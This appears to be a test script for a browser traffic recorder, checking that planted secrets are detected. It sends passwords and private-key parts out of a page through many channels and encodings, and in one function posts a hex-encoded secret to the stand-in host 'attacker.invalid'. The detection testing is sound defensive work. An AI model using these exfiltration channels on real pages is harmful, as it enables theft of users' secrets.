// Whether the record of traffic finds what it is for: secrets are planted in everything that a page can send, in every form.
//
//   node traffic.mjs '{"browser":"firefox"}'

import assert from 'node:assert/strict';
import { createHash, generateKeyPairSync, randomBytes } from 'node:crypto';
import http from 'node:http';
import { launch } from './lib/browser.mjs';
import { octets, privateKey, text, Traffic } from './lib/traffic.mjs';

const { browser: name } = JSON.parse(process.argv[2]);

/** Answers everything, WebSockets too. */
async function listen() {
  const server = http.createServer((request, response) => {
    request.resume();
    request.on('end', () => response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*', 'access-control-allow-headers': '*' }).end('<title>t</title>'));
  });
  server.on('upgrade', (request, socket) => {
    const accept = createHash('sha1').update(`${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64');
    socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
    socket.on('data', () => socket.write(Buffer.from([0x81, 2, 0x6f, 0x6b])));
    socket.on('error', () => undefined);
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return server;
}

/** Each way out of a page; `secret` comes as hexadecimal, and goes as octets. */
const WAYS = {
  fetch: (octets) => fetch('/way', { method: 'POST', body: octets }),
  form: (octets) => {
    const form = new FormData();
    form.append('file', new Blob([octets]), 'a.bin');
    return fetch('/way', { method: 'POST', body: form });
  },
  beacon: (octets) => navigator.sendBeacon('/way', new Blob([octets])),
  request: (octets) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onloadend = resolve;
      request.open('PUT', '/way');
      request.send(octets);
    }),
  worker: (octets) =>
    new Promise((resolve) => {
      const source = 'onmessage = ({ data: [url, octets] }) => fetch(url, { method: "POST", body: octets }).then(() => postMessage(1))';
      const worker = new Worker(URL.createObjectURL(new Blob([source])));
      worker.onmessage = resolve;
      worker.postMessage([`${location.origin}/way`, octets]);
    }),
  socket: (octets) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(location.origin.replace('http', 'ws'));
      socket.onopen = () => socket.send(octets);
      socket.onmessage = resolve;
      socket.onerror = () => reject(new Error('no socket'));
    }),
  image: (octets) =>
    new Promise((resolve) => {
      const image = new Image();
      image.onerror = image.onload = resolve;
      image.src = `/way?x=${encodeURIComponent(btoa(String.fromCharCode(...octets)))}`;
    }),
  header: (octets) => fetch('/way', { headers: { 'x-way': [...octets].map((octet) => octet.toString(16).padStart(2, '0')).join(':') } }),
};

const server = await listen();
const other = await listen();
const browser = await launch('en', { name });
const traffic = await Traffic.begin();
try {
  const context = await browser.newContext(traffic.settings);
  traffic.watch(context);
  const page = await context.newPage();
  const base = `http://127.0.0.1:${server.address().port}`;
  await page.goto(base);
  for (const [way, send] of Object.entries(WAYS)) {
    // Long ones are found by any of their pieces, also where something stands before it.
    const secret = randomBytes(way === 'header' ? 64 : 300);
    assert.deepEqual(traffic.find(octets('x', secret)), [], 'nothing was sent yet');
    await page.evaluate(`(${send})(Uint8Array.from(${JSON.stringify([...randomBytes(5), ...secret.subarray(20)])}))`);
    await arrives(() => traffic.find(octets('x', secret)).length > 0, way);
  }
  await words(page);
  await numbers(page);
  await elsewhere(page);
  assert.throws(() => traffic.find(text('short', 'abc')), /too short/);
  traffic.demandNone([...octets('never', randomBytes(100)), ...text('never', 'nikdy neposlané heslo')]);
  await context.close();
} finally {
  await browser.close();
  await traffic.end();
  for (const one of [server, other]) {
    one.closeAllConnections();
    one.close();
  }
}

async function arrives(isThere, what) {
  for (let n = 0; n < 100 && !isThere(); n += 1) await new Promise((resolve) => setTimeout(resolve, 50));
  assert.ok(isThere(), `what went by ${what} was not found`);
}

/** Passwords, in each form in which pages write text. */
async function words(page) {
  const post = (body, type = 'text/plain') =>
    page.evaluate(([body, type]) => fetch('/words', { method: 'POST', headers: { 'content-type': type }, body }).then(() => undefined), [body, type]);
  const utf16 = (password) => Buffer.from(password, 'utf16le');
  const forms = {
    plain: (password) => password,
    form: (password) => new URLSearchParams({ password }).toString(),
    percent: (password) => encodeURIComponent(password),
    json: (password) => JSON.stringify({ password }).replaceAll(/[^\0-\x7f]/g, (one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`),
    html: (password) => password.replaceAll(/[^\0-\x7f]/g, (one) => `&#${one.codePointAt(0)};`),
    decomposed: (password) => password.normalize('NFD'),
    base64: (password) => btoa(`x${Buffer.from(password).toString('latin1')}`),
    url: (password) => Buffer.from(`xy${password}`).toString('base64url'),
    wide: (password) => utf16(password).toString('base64'),
    hex: (password) => utf16(password).swap16().toString('hex').toUpperCase(),
  };
  for (const [form, write] of Object.entries(forms)) {
    const password = `čaj & šípek ${randomBytes(6).toString('hex')}?+`;
    await post(write(password));
    await arrives(() => traffic.find(text('password', password)).length > 0, form);
  }
}

/** A key, by any of its numbers in any of their forms. */
async function numbers(page) {
  const keys = [
    generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey,
    generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey,
  ];
  for (const key of keys) {
    const secrets = privateKey('key', key.export({ format: 'pem', type: 'pkcs8' }));
    const jwk = key.export({ format: 'jwk' });
    // What anybody may know of it is no secret.
    await page.evaluate((body) => fetch('/public', { method: 'POST', body }).then(() => undefined), JSON.stringify({ n: jwk.n, e: jwk.e, x: jwk.x, y: jwk.y }));
    assert.deepEqual(traffic.find(secrets), []);
    for (const part of ['d', 'p', 'q', 'dp', 'dq', 'qi'].filter((part) => jwk[part])) {
      const number = Buffer.from(jwk[part], 'base64url');
      for (const [form, body] of [
        ['base64', number.toString('base64')],
        ['hex', number.toString('hex').toUpperCase()],
        ['decimal', BigInt(`0x${number.toString('hex')}`).toString()],
        ['jwk', jwk[part]],
      ]) {
        const before = traffic.sent.length;
        await page.evaluate((body) => fetch('/numbers', { method: 'POST', body }).then(() => undefined), body);
        await arrives(() => traffic.sent.length > before, form);
        const found = traffic.find(secrets, before);
        assert.ok(found.some((one) => one.startsWith(`key, ${part}`)), `${part} in ${form}`);
      }
    }
    const before = traffic.sent.length;
    await page.evaluate((body) => fetch('/pem', { method: 'POST', body }).then(() => undefined), key.export({ format: 'pem', type: 'pkcs8' }));
    await arrives(() => traffic.sent.length > before, 'PEM');
    assert.ok(traffic.find(secrets, before).length > 0, 'a PEM file');
  }
}

/** Another host is recorded too, and what no server takes. */
async function elsewhere(page) {
  const secret = randomBytes(40);
  const hex = secret.toString('hex');
  await page.evaluate((url) => fetch(url, { mode: 'no-cors' }).then(() => undefined), `http://localhost:${other.address().port}/${hex}`);
  await arrives(() => traffic.find(octets('x', secret)).length > 0, 'another host');
  const nowhere = randomBytes(40);
  await page.evaluate((url) => fetch(url, { method: 'POST', mode: 'no-cors', body: url }).catch(() => undefined), `https://attacker.invalid/${nowhere.toString('hex')}`);
  await arrives(() => traffic.find(octets('x', nowhere)).length > 0, 'a host that does not exist, encrypted');
}
